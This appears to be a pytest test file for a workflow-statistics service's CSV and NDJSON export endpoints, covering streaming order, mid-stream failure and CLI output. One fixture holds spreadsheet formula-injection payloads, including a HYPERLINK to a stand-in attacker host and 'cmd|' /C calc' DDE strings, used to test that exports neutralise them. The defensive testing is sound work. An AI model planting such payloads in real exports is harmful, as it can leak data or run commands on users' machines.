"""Exports: every native list answer as CSV equals its JSON; text from the store cannot turn into
a spreadsheet formula; GET .../runs/export streams every run of a range in the run list's order
(the reference's, over split histories in both dialects and plans, paged small), ends visibly
when the store fails mid-stream, and is cancelled on the server when its client leaves (a real
`python -m app serve` on a real socket)."""

from __future__ import annotations

import csv
import io
import json
import signal
import time
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import msgspec
import psycopg
import pytest
from hypothesis import given
from hypothesis import strategies as st
from litestar.testing import TestClient

from app.config import load_settings
from app.core.measures import DAILY_MEASURES
from app.demo import copy_rows, demo_apps, generate_rows
from app.http.csv import PRICES, CsvTable
from app.main import create_app
from app.stores.backend import Backend
from app.stores.run_export import PageSizes, RunExport
from schemas.exports import RunExportRequest
from schemas.requests import STATUSES
from schemas.runs import RunSummary
from tests import examples, reference
from tests.db import load_history, load_two_sources
from tests.processes import cli_env, service
from tests.strategies import created_ranges, split_histories
from tests.test_hostile_traffic import running_queries
from tests.test_query_cli import _options, query
from tests.test_query_properties import _same_elapsed
from tests.test_two_sources import (
    Harness,
    _scope,
    harness,  # noqa: F401 - the fixture, with its own module scope here
)

T, A = examples.T, examples.A
BASE = f"/v1/tenants/{T}/apps/{A}"
CSV_TYPE = "text/csv; charset=utf-8"
# Examples: r3 and r4 (unfinished) alone, in Shanghai local times: no failure rate, no durations.
UNFINISHED_ONLY = {"start": "2025-03-02T01:00", "end": "2025-03-02T03:00", "timezone": "Asia/Shanghai"}


def records(text: str) -> list[dict[str, str]]:
    """A CSV answer read by Python's csv module: one dict per row, by the header's names."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def json_value(cell: str, like: Any) -> Any:
    """A CSV cell as the JSON value it stands for (`like`: that value, for its type)."""
    if cell == "":
        return None
    if isinstance(like, str):
        return cell
    return json.loads(cell)  # numbers and booleans are written as JSON writes them


def assert_csv_is_json(text: str, items: list[dict[str, Any]], columns: list[str]) -> None:
    rows = records(text)
    assert text.split("\r\n", 1)[0] == ",".join(columns)
    assert len(rows) == len(items)
    for row, item in zip(rows, items, strict=True):
        assert {name: json_value(row[name], item[name]) for name in columns} == item


@pytest.fixture
def demo_history(pg_conn: psycopg.Connection[Any]) -> tuple[str, str]:
    """The demo generator's shape over 10 days (every status and trigger source)."""
    pg_conn.execute("TRUNCATE workflow_execution")
    copy_rows(pg_conn, generate_rows(600, days=10, now=datetime(2025, 11, 6, 9, 30, tzinfo=UTC)))
    app = demo_apps()[0]
    return app.tenant_id, app.app_id


def test_every_daily_measure_as_csv_is_its_json(
    client: TestClient[Any], demo_history: tuple[str, str]
) -> None:
    tenant, app = demo_history
    base = f"/v1/tenants/{tenant}/apps/{app}/statistics"
    cases = [
        {"start": "2025-10-27", "end": "2025-11-06 12:00", "timezone": zone, "triggered_from": trigger}
        for zone in ("UTC", "Asia/Kolkata", "America/New_York")
        for trigger in ("app-run", "debugging")
    ]
    checked = 0
    for measure in DAILY_MEASURES:
        for params in cases:
            as_json = client.get(base + measure.native_path, params=params)
            for asked in (
                {"params": {**params, "format": "csv"}},
                {"params": params, "headers": {"Accept": "text/csv"}},
            ):
                as_csv = client.get(base + measure.native_path, **asked)  # type: ignore[arg-type]
                assert as_csv.status_code == 200, as_csv.text
                assert as_csv.headers["content-type"] == CSV_TYPE
                assert as_csv.headers["x-cache"] in ("hit", "miss", "partial")
                assert_csv_is_json(as_csv.text, as_json.json()["data"], ["date", *measure.fields])
                checked += len(as_json.json()["data"])
    assert checked > 500
    disposition = client.get(base + "/daily-runs", params={**cases[1], "format": "csv"}).headers
    assert disposition["content-disposition"] == (
        f'attachment; filename="daily-runs_{app}_2025-10-27_2025-11-06T120000.csv"'
    )


def test_null_is_an_empty_cell(client: TestClient[Any], pg_conn: psycopg.Connection[Any]) -> None:
    load_history(pg_conn, examples.history())
    for path, empty in (("daily-status", ["failure_rate"]), ("daily-duration", ["p50", "p95", "p99", "max"])):
        answer = client.get(f"{BASE}/statistics/{path}", params={**UNFINISHED_ONLY, "format": "csv"})
        (row,) = records(answer.text)
        assert [row[name] for name in empty] == [""] * len(empty), path
        assert (
            client.get(f"{BASE}/statistics/{path}", params=UNFINISHED_ONLY).json()["data"][0][empty[0]]
            is None
        )


def test_a_run_list_page_as_csv_is_its_json(
    client: TestClient[Any], pg_conn: psycopg.Connection[Any]
) -> None:
    load_history(pg_conn, examples.history())
    params: dict[str, Any] = {"triggered_from": "app-run", "limit": 3}
    for last_page in (False, True):
        as_json = client.get(f"{BASE}/runs", params=params).json()
        as_csv = client.get(f"{BASE}/runs", params=params, headers={"Accept": "text/csv"})
        assert as_csv.headers["content-type"] == CSV_TYPE
        assert as_csv.headers["x-has-more"] == str(as_json["has_more"]).lower() == str(not last_page).lower()
        assert_csv_is_json(as_csv.text, as_json["data"], list(RunSummary.__struct_fields__))
        after = f"_after_{params['last_id']}" if "last_id" in params else ""
        assert f'filename="runs_{A}_app-run{after}.csv"' in as_csv.headers["content-disposition"]
        params["last_id"] = as_json["data"][-1]["id"]


HOSTILE = {
    "version": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "created_by": "+1 (555) 0100",
    "created_by_role": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _hostile_history() -> list[reference.Version]:
    """The examples with text fields only a spreadsheet would run, and numbers that start with
    `-`: r1 and r2 carry the formulas, r3 a tab, a CR, a comma, a quote and a newline; r4 has
    negative tokens."""
    changed = {
        examples.R1: HOSTILE,
        examples.R2: {"version": "-2+3+cmd|' /C calc'!A0"},
        examples.R3: {
            "version": "\tleading tab",
            "created_by_role": "\rleading CR",
            "created_by": 'a,b "c"\nd',
        },
        examples.R4: {"total_tokens": -5},
    }
    return [msgspec.structs.replace(row, **changed.get(row.id, {})) for row in examples.history()]


@pytest.mark.parametrize("path", ["/runs", "/runs/export"])
def test_text_from_the_store_cannot_become_a_formula(
    client: TestClient[Any], pg_conn: psycopg.Connection[Any], path: str
) -> None:
    load_history(pg_conn, _hostile_history())
    answer = client.get(BASE + path, params={"triggered_from": "app-run", "format": "csv"})
    as_json = client.get(f"{BASE}/runs", params={"triggered_from": "app-run"}).json()["data"]
    by_id = {row["id"]: row for row in records(answer.text)}
    for run in as_json:
        for field, value in run.items():
            if isinstance(value, str):
                dangerous = value[:1] in ("=", "+", "-", "@", "\t", "\r")
                assert by_id[run["id"]][field] == ("'" + value if dangerous else value), (field, value)
    # Text is quoted, a quote doubled; formulas get their `'`; numbers are bare, negative ones too.
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"' in answer.text
    assert '"\'+1 (555) 0100"' in answer.text and "\"'@SUM(1+1)*cmd|' /C calc'!A0\"" in answer.text
    assert "\"'-2+3+cmd|' /C calc'!A0\"" in answer.text and '"\'\tleading tab"' in answer.text
    r4 = next(line for line in answer.text.split("\r\n") if line.startswith(f'"{examples.R4}"'))
    assert r4.split(",")[4] == "-5"


def test_the_format_is_asked_by_parameter_or_accept_header(
    client: TestClient[Any], pg_conn: psycopg.Connection[Any]
) -> None:
    load_history(pg_conn, examples.history())
    for path, allowed in (
        ("/statistics/daily-runs", "json, csv"),
        ("/runs", "json, csv"),
        ("/runs/export", "ndjson, csv"),
    ):
        refused = client.get(BASE + path, params={"format": "xlsx"})
        assert refused.status_code == 400
        assert refused.json() == {
            "code": "invalid_param",
            "message": f"format: must be one of: {allowed}",
            "status": 400,
        }
        long = client.get(BASE + path, params={"format": "x" * 4000})
        assert long.json()["message"] == f"format: must be one of: {allowed}"
    daily = f"{BASE}/statistics/daily-runs"
    kinds = {
        "json wins over the header": client.get(
            daily, params={"format": "json"}, headers={"Accept": "text/csv"}
        ),
        "any type": client.get(daily, headers={"Accept": "*/*"}),
        "a browser": client.get(daily, headers={"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}),
    }
    for why, answer in kinds.items():
        assert answer.headers["content-type"] == "application/json", why
    assert (
        client.get(daily, headers={"Accept": "application/json;q=0.5, text/csv"}).headers["content-type"]
        == CSV_TYPE
    )
    export = f"{BASE}/runs/export"
    assert client.get(export).headers["content-type"] == "application/x-ndjson"
    assert client.get(export, headers={"Accept": "text/csv"}).headers["content-type"] == CSV_TYPE


def ndjson(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


def test_the_export_streams_every_run_of_the_range_in_list_order(
    client: TestClient[Any], pg_conn: psycopg.Connection[Any]
) -> None:
    load_history(pg_conn, examples.history())
    app_state = client.app.state
    app_state.run_export.sizes = PageSizes(keys=2, rows=1, page=1)  # one run per page, keys in pairs
    ranged = {"start": "2025-03-01T16:00:00Z", "end": "2025-03-02", "timezone": "UTC"}
    for params, status in ((ranged, None), ({**ranged, "status": "paused"}, "paused"), ({}, None)):
        truth = reference.runs_in_scope(
            examples.history(), T, A, "app-run",
            reference.iso_to_us("2025-03-01T16:00:00") if params else None,
            reference.iso_to_us("2025-03-02T00:00:00") if params else None,
        )  # fmt: skip
        want = [run.id for run in reference.run_list(truth, status)]
        lines = client.get(f"{BASE}/runs/export", params=params)
        assert lines.status_code == 200 and lines.headers["content-type"] == "application/x-ndjson"
        assert [item["id"] for item in ndjson(lines.text)] == want, params
        listed = client.get(f"{BASE}/runs", params={"triggered_from": "app-run", "limit": 100}).json()["data"]
        assert ndjson(lines.text) == [run for run in listed if run["id"] in want]
        as_csv = client.get(f"{BASE}/runs/export", params={**params, "format": "csv"})
        assert_csv_is_json(as_csv.text, ndjson(lines.text), list(RunSummary.__struct_fields__))
    named = client.get(
        f"{BASE}/runs/export",
        params={"start": "2025-03-01", "end": "2025-03-03 08:00", "timezone": "Asia/Shanghai"},
    )
    assert named.headers["content-disposition"] == (
        f'attachment; filename="runs_{A}_app-run_2025-03-01_2025-03-03T080000.ndjson"'
    )
    assert "x-cache" not in named.headers  # exports bypass the answer cache
    head = client.head(f"{BASE}/runs/export", params={"format": "csv"})
    assert (head.status_code, head.headers["content-type"], head.content) == (200, CSV_TYPE, b"")


def test_the_exports_range_is_checked_like_the_statistics(client: TestClient[Any]) -> None:
    for params, message in (
        ({"start": "2024-01-01", "end": "2025-03-01"}, "end: the range is longer than 400 days"),
        ({"start": "2025-03-02", "end": "2025-03-01"}, "start: must not be after end"),
        ({"start": "yesterday"}, "start: must be an ISO-8601 date or date-time, or YYYY-MM-DD HH:MM"),
        ({"timezone": "Mars/Olympus"}, "timezone: unknown time zone 'Mars/Olympus'"),
        ({"status": "done"}, "status: must be one of: " + ", ".join(STATUSES)),
    ):
        answer = client.get(f"{BASE}/runs/export", params=params)
        assert (answer.status_code, answer.json()["message"]) == (400, message), params


@pytest.fixture
def split_examples(pg_conn: psycopg.Connection[Any]) -> str:
    """The examples split at 17:00 UTC on 2025-03-01: r3 and r4 in the LogStore, r1 and r2 only
    in Dify's workflow_runs; the instant, as STATS_LOGSTORE_SINCE."""
    since = "2025-03-01T17:00:00+00:00"
    latest = reference.latest_versions(examples.history())
    cut = reference.iso_to_us(since.replace("+00:00", ""))
    load_two_sources(
        pg_conn,
        [row for row in examples.history() if reference.created_us(row) >= cut],
        [run for run in latest if reference.created_us(run) < cut],
    )
    return since


@pytest.mark.parametrize("form", ["ndjson", "csv"])
def test_a_store_failing_mid_stream_ends_the_body_visibly(
    database_url: str, split_examples: str, tmp_path: Path, form: str
) -> None:
    """Dify's database is down: the LogStore's runs are sent, then the line saying why the
    export stops, never a silently short file."""
    settings = load_settings(
        {
            "STATS_DATABASE_URL": database_url,
            "STATS_DIFY_DATABASE_URL": "postgresql://nobody@dify-db/dify",
            "STATS_LOGSTORE_SINCE": split_examples,
        }
    )
    down = Backend(
        f"postgresql://nobody@/dify?host={tmp_path}", settings, dialect="postgres", name="workflow_runs"
    )
    with TestClient(app=create_app(settings, Backend(database_url, settings), down)) as client:
        answer = client.get(f"{BASE}/runs/export", params={"format": form})
    assert answer.status_code == 200
    message = "the statistics backend is not answering; try again shortly"
    stopped = {"code": "backend_unavailable", "message": message, "status": 503}
    if form == "ndjson":
        *runs, last = ndjson(answer.text)
        assert [run["id"] for run in runs] == [examples.R4, examples.R3] and last == stopped
    else:
        *runs, last = list(csv.reader(io.StringIO(answer.text, newline="")))
        assert [row[0] for row in runs] == ["id", examples.R4, examples.R3]
        assert last == ["#export-incomplete", "503", stopped["code"], stopped["message"]]
        assert answer.text.endswith(f'#export-incomplete,503,backend_unavailable,"{stopped["message"]}"\r\n')


def test_a_client_leaving_mid_stream_cancels_the_statement_on_the_server(
    database_url: str, split_examples: str, tmp_path: Path
) -> None:
    """A real `serve` process: the LogStore's runs arrive, then the statement for Dify's table
    waits on a lock; the client hangs up and the statement is gone at once, not after the
    30 s query timeout, while the lock is still held."""
    env = cli_env(
        tmp_path,
        STATS_DATABASE_URL=database_url,
        STATS_DIFY_DATABASE_URL=database_url,
        STATS_LOGSTORE_SINCE=split_examples,
        STATS_QUERY_TIMEOUT="30",
    )
    with service(env) as running:
        running.wait_for_line("service_started", 60)
        with psycopg.connect(database_url) as locker:
            locker.execute("LOCK TABLE workflow_runs IN ACCESS EXCLUSIVE MODE")
            with (
                httpx.Client(timeout=30) as client,
                client.stream("GET", f"{running.base}{BASE}/runs/export") as answer,
            ):
                lines = answer.iter_lines()
                assert [json.loads(next(lines))["id"] for _ in range(2)] == [examples.R4, examples.R3]
                deadline = time.monotonic() + 10
                while not running_queries(database_url, "%workflow_runs%") and time.monotonic() < deadline:
                    time.sleep(0.05)
                assert running_queries(database_url, "%workflow_runs%") == 1
            left = time.monotonic()  # the connection is closed
            while running_queries(database_url, "%workflow_runs%") and time.monotonic() - left < 10:
                time.sleep(0.05)
            assert time.monotonic() - left < 3
            locker.rollback()
        line = running.wait_for_line('"status": 499', 10)
        assert "/runs/export" in line
        assert running.stop(signal.SIGTERM) == -signal.SIGTERM


@given(data=st.data(), status=st.none() | st.sampled_from(STATUSES))
def test_exports_match_the_reference_across_sources_dialects_and_plans(
    pg_conn: psycopg.Connection[Any],
    harness: Harness,  # noqa: F811 - the fixture imported above
    data: st.DataObject,
    status: str | None,
) -> None:
    """Pages of every size down to one run, keys read in batches down to one: the reference's
    run list of the range, each run's latest version, across the migration boundary."""
    split = data.draw(split_histories())
    load_two_sources(pg_conn, split.logstore, split.workflow_runs)
    tenant_id, app_id, trigger = _scope(data, split.history)
    start, end = data.draw(created_ranges())
    sizes = PageSizes(
        keys=data.draw(st.integers(1, 4)),
        rows=data.draw(st.integers(1, 3)),
        page=data.draw(st.integers(1, 4)),
    )
    truth = reference.run_list(
        reference.runs_in_scope(split.history, tenant_id, app_id, trigger, start, end), status
    )
    request = RunExportRequest(
        tenant_id=tenant_id, app_id=app_id, triggered_from=trigger, status=status,  # type: ignore[arg-type]
        timezone="UTC", start_us=start, end_us=end,
    )  # fmt: skip
    for combination, repository in harness.repositories(split.since_us).items():
        exported = harness.run(_collect(RunExport(repository.sources, sizes=sizes).pages(request)))
        assert [run.id for run in exported] == [run.id for run in truth], (combination, sizes)
        for run, want in zip(exported, truth, strict=True):
            finished = reference.iso_to_us(want.finished_at) // 1_000_000 if want.finished_at else None
            assert (run.status, run.total_tokens, run.created_at, run.finished_at) == (
                want.status, want.total_tokens, reference.created_us(want) // 1_000_000, finished,
            ), combination  # fmt: skip
            assert _same_elapsed(run.elapsed_time, want), combination


async def _collect(pages: AsyncIterator[list[RunSummary]]) -> list[RunSummary]:
    found: list[RunSummary] = []
    async for page in pages:
        assert page, "no page is empty"
        found += page
    return found


def test_the_cli_prints_what_the_api_sends(
    database_url: str, client: TestClient[Any], pg_conn: psycopg.Connection[Any]
) -> None:
    """`python -m app query ... --format csv|ndjson`: the API's answers (read here as text, so
    CSV's CRLF line ends arrive as LF)."""
    load_history(pg_conn, examples.history())
    ids = ["--tenant", T, "--app", A]
    days = {"start": "2025-03-01", "end": "2025-03-03", "timezone": "Asia/Shanghai"}
    for form in ("ndjson", "csv"):
        api = client.get(f"{BASE}/runs/export", params={**days, "status": "paused", "format": form})
        options = [*_options(days), "--status", "paused", "--format", form]
        printed = query(database_url, "runs-export", *ids, *options)
        assert printed.returncode == 0, printed.stderr
        assert printed.stdout == api.text.replace("\r\n", "\n")
        assert api.text.count("\n") == 1 + (form == "csv")  # r4, and a header row
    measure = DAILY_MEASURES[-1]  # durations: floats and nulls
    api = client.get(f"{BASE}/statistics{measure.native_path}", params={**days, "format": "csv"})
    printed = query(database_url, measure.native_path.lstrip("/"), *ids, *_options(days), "--format", "csv")
    assert printed.returncode == 0 and printed.stdout == api.text.replace("\r\n", "\n"), printed.stderr
    refused = query(database_url, "runs-count", *ids, "--format", "csv")
    assert refused.returncode == 2
    assert refused.stderr.strip() == "dify-stats: invalid_param: format: must be one of: table, json"


def test_the_cli_ends_an_export_cut_short_as_the_api_does(
    database_url: str, split_examples: str, tmp_path: Path
) -> None:
    down = f"postgresql://nobody@/dify?host={tmp_path}"
    printed = query(
        database_url, "runs-export", "--tenant", T, "--app", A,
        STATS_DIFY_DATABASE_URL=down, STATS_LOGSTORE_SINCE=split_examples,
    )  # fmt: skip
    assert printed.returncode == 1
    *runs, last = ndjson(printed.stdout)
    assert [run["id"] for run in runs] == [examples.R4, examples.R3]
    assert last["code"] == "backend_unavailable" and last["status"] == 503
    assert "\ndify-stats: backend_unavailable: workflow_runs: " in printed.stderr


def test_the_statement_cap_counts_each_page_of_an_export(
    database_url: str, pg_conn: psycopg.Connection[Any]
) -> None:
    """STATS_MAX_QUERIES_PER_REQUEST=2: an export of one run per page sends far more statements in
    all and runs to its end; with 1, the first page (keys, then summaries) is over the cap: a 400
    before anything is streamed."""
    load_history(pg_conn, examples.history())
    for cap, status in (("2", 200), ("1", 400)):
        settings = load_settings({"STATS_DATABASE_URL": database_url, "STATS_MAX_QUERIES_PER_REQUEST": cap})
        with TestClient(app=create_app(settings, Backend(database_url, settings))) as client:
            client.app.state.run_export.sizes = PageSizes(keys=1, rows=1, page=1)
            answer = client.get(f"{BASE}/runs/export")
        assert answer.status_code == status, answer.text
        if status == 200:
            assert [run["id"] for run in ndjson(answer.text)] == [
                examples.R4,
                examples.R3,
                examples.R2,
                examples.R1,
            ]
        else:
            assert answer.json()["code"] == "too_many_queries"


class _Cost(msgspec.Struct, frozen=True):
    currency: str
    total_price: str


class _Durations(msgspec.Struct, frozen=True):
    p50: float | None
    max: float | None


class _Day(msgspec.Struct, frozen=True):
    date: str
    costs: list[_Cost]
    durations: _Durations
    total_tokens: int
    title: str | None = None


def test_a_table_spreads_prices_over_currency_columns_and_flattens_nested_fields() -> None:
    """What the node analytics declare (no route of this change has them): one column per
    currency of the answer, sorted, decimal strings as numbers; a nested struct as prefixed
    columns; a list nothing says how to spread is refused when the table is built."""
    table = CsvTable(_Day, spreads={"costs": PRICES})
    days = [
        _Day("2025-03-01", [_Cost("USD", "1.2345678"), _Cost("RMB", "-0.5")], _Durations(1.5, 2.0), 10),
        _Day(
            "2025-03-02", [_Cost("USD", "0.0010276"), _Cost("=X()", "n/a")], _Durations(None, None), 0, "=1+1"
        ),
        _Day("2025-03-03", [], _Durations(0.25, 0.25), 3),
    ]
    assert table.describe() == "date, cost_<currency>, durations_p50, durations_max, total_tokens, title"
    assert table.document(days).decode().split("\r\n") == [
        'date,"cost_=X()",cost_RMB,cost_USD,durations_p50,durations_max,total_tokens,title',
        '"2025-03-01",,-0.5,1.2345678,1.5,2.0,10,',
        '"2025-03-02","n/a",,0.0010276,,,0,"\'=1+1"',
        '"2025-03-03",,,,0.25,0.25,3,',
        "",
    ]
    assert table.document([]).decode() == "date,durations_p50,durations_max,total_tokens,title\r\n"
    with pytest.raises(TypeError, match="costs is a list: declare a Spread"):
        CsvTable(_Day)
